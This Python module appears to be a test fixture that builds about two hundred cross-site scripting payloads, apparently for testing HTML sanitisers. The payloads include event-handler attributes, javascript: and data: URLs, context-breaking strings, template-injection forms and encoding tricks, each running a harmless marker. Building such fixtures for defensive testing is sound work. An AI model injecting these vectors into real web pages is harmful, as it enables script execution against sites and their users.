# SPDX-License-Identifier: Apache-2.0
"""Two hundred names that try to run a script on a page: as elements, attributes, addresses, styles, JSON."""

CALL = "window.hit=1"
_ELEMENTS = """img src=x|svg|body|video><source|audio src=x|input autofocus|details open|iframe|object data=x
embed src=x|marquee|math|a href=x|form|button|select autofocus|textarea autofocus|keygen autofocus|style
link rel=stylesheet href=x|base href=//x""".replace("\n", "|").split("|")
_HANDLERS = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onpointerenter"]
_ADDRESSES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
)
_BREAKS = [
    '"',
    "'",
    "`",
    "-->",
    "]]>",
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "*/",
    "\\",
    '"}',
    "']",
]
_WHOLE = r"""
<script>{}</script>
<ScRiPt>{}</sCrIpT>
<script src=data:text/javascript,{}></script>
<script>{}//
<svg><script>{}</script></svg>
<svg><animate onbegin={} attributeName=x>
{{{{constructor.constructor('{}')()}}}}
${{{}}}
<% {} %>
{{% raw %}}<script>{}</script>
&lt;script&gt;{}&lt;/script&gt;
%3Cscript%3E{}
<!--<script>{}</script>-->
<template><script>{}</script></template>
\u003cscript\u003e{}
<noscript><p title='</noscript><img src=x onerror={}>'>
<xss style=x:expression({})>
<meta http-equiv=refresh content='0;{}'>
""".strip().split("\n")


def _all() -> list[str]:
    found = [f"<{element} {handler}={CALL}>" for element in _ELEMENTS for handler in _HANDLERS]
    found += [f"{start}<img src=x onerror={CALL}>" for start in _BREAKS]
    found += [f"<a href='{address.format(CALL)}'>x</a>" for address in _ADDRESSES]
    found += [f"<iframe src='{address.format(CALL)}'></iframe>" for address in _ADDRESSES]
    found += [f'" {handler}="{CALL}" x="' for handler in _HANDLERS]
    found += [f"' {handler}='{CALL}' x='" for handler in _HANDLERS]
    found += [text.format(CALL) for text in _WHOLE]
    return [*found, f"\u2028{CALL}\u2029", f"\x00<script>{CALL}</script>"]


PAYLOADS = _all()
